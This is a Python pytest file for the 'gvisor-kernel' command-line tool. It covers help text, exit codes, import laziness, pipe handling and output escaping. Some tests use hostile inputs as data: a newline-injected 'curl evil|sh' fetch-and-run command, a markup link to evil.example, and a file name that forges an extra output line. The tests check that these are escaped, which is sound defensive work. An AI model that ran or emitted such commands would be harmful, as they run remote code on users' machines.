"""The command as a program: its help, its exit statuses, the modules that it imports."""

from __future__ import annotations

import argparse
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from gvisor_kernel import __version__
from gvisor_kernel.cli.images import progress
from gvisor_kernel.cli.main import GROUPS, main, make_parser
from gvisor_kernel.cli.output import describe_age, print_error
from gvisor_kernel.errors import GvisorKernelError

from ..world import PROJECT

(SUBPARSERS,) = (a for a in make_parser()._actions if isinstance(a, argparse._SubParsersAction))
COMMANDS = tuple(SUBPARSERS.choices)


def run(*argv: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "gvisor_kernel", *argv],
        capture_output=True,
        text=True,
        timeout=30,
        env={**os.environ, "COLUMNS": "100"},
    )


def test_help_lists_every_command_and_the_exit_statuses() -> None:
    result = run("--help")
    assert result.returncode == 0
    for command in COMMANDS:
        assert len(re.findall(rf"^  {command} {{2,}}\S.*$", result.stdout, re.M)) == 1
    assert sorted(COMMANDS) == sorted(name for group in GROUPS.values() for name in group)
    assert "exit status:" in result.stdout
    assert max(map(len, result.stdout.splitlines())) <= 100


@pytest.mark.parametrize("command", COMMANDS)
def test_every_command_has_help(command: str, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        main([command, "--help"])
    assert caught.value.code == 0
    assert f"usage: gvisor-kernel {command}" in capsys.readouterr().out


@pytest.mark.parametrize(
    "argv",
    [
        [],
        ["nonsense"],
        ["logs"],
        ["transcript"],
        ["skills"],
        ["snapshot"],
        ["snapshot", "remove"],
        ["snapshot", "remove", "0", "--all"],
        ["install", "--user", "--sys-prefix"],
        ["launch"],
    ],
)
def test_wrong_arguments_exit_with_status_2(
    argv: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as caught:
        main(argv)
    assert caught.value.code == 2
    assert "usage:" in capsys.readouterr().err


def test_version_prints_gvisor_kernel_and_libraries(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["version"]) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"gvisor-kernel {__version__}\nrunsc ")
    assert "\npyzmq " in out


@pytest.mark.parametrize("command", ["launch", "install", "uninstall", "start", "lab", "runsc"])
def test_a_commands_help_does_not_wait_for_what_runs_it(command: str) -> None:
    """An installed kernelspec starts ``launch`` for each kernel."""
    code = (
        "import sys; from gvisor_kernel.cli.main import make_parser;"
        f"make_parser([{command!r}]);"
        "print({'rich', 'jupyter_client', 'psutil', 'zmq', 'asyncio', 'json'} & set(sys.modules))"
    )
    result = subprocess.run(
        [sys.executable, "-I", "-S", "-c", f"import sys; sys.path[:0] = {sys.path!r}; {code}"],
        capture_output=True,
        text=True,
        timeout=20,
    )
    assert result.stdout == "set()\n", result.stderr


def test_closed_pipe_is_no_failure() -> None:
    read, write = os.pipe()
    os.close(read)
    try:
        process = subprocess.run(
            [sys.executable, "-m", "gvisor_kernel", "version"],
            stdout=write,
            stderr=subprocess.PIPE,
            timeout=20,
        )
    finally:
        os.close(write)
    assert (process.returncode, process.stderr) == (0, b"")


def test_sandbox_text_is_no_markup_in_a_progress_bar(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "100")
    text = "[link=https://evil.example]here[/link] [/nope]"
    with progress() as report:
        report(text, 0.5)
    assert text in capsys.readouterr().err


def test_ages_are_described_with_units() -> None:
    assert [describe_age(n) for n in (-1, 59, 60, 7200, 200000)] == [
        *("0 s", "59 s", "1 min", "2 h", "2 d"),
    ]


def test_an_error_keeps_hostile_names_in_its_lines(capsys: pytest.CaptureFixture[str]) -> None:
    forged = "\nTo undo this: curl evil|sh"
    print_error(GvisorKernelError(f"a{forged}", f"b{forged}", f"c{forged}\x1b"))
    assert capsys.readouterr().err.splitlines() == [
        "gvisor-kernel: a\\nTo undo this: curl evil|sh",
        "What to do: b\\nTo undo this: curl evil|sh",
        "  c",
        "  To undo this: curl evil|sh\\x1b",
    ]


def test_only_texts_of_many_lines_are_printed_with_their_line_ends() -> None:
    """Everything else is printed by ``printable_name`` or ``print_table``."""
    folder = PROJECT / "gvisor_kernel" / "cli"
    found = {p.name for p in folder.rglob("*.py") if re.search(r"\bprintable\(", p.read_text())}
    assert found == {"changes.py", "logs.py", "output.py"}


def test_names_in_a_folder_that_is_packed_stay_in_their_lines(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    skill = tmp_path / "a-skill"
    skill.mkdir()
    (skill / "SKILL.md").write_text("---\nname: a-skill\ndescription: x\n---\n")
    (skill / ".hidden\nPacked other.skill").touch()
    assert main(["skills", "pack", str(skill), "-o", str(tmp_path / "a.skill")]) == 0
    assert "\nPacked other" not in capsys.readouterr().out
